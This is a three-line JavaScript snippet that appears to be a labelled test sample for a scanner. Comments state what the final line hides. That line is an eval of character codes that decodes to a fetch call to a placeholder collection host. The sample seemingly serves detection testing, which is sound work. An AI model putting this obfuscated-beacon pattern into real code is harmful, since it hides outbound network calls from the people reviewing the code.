// hides: call eval "fetch(\"http://collect.test/in\")"
// hides: call fetch "http://collect.test/in"
eval(String.fromCharCode(102, 101, 116, 99, 104, 40, 34, 104, 116, 116, 112, 58, 47, 47, 99, 111, 108, 108, 101, 99, 116, 46, 116, 101, 115, 116, 47, 105, 110, 34, 41));
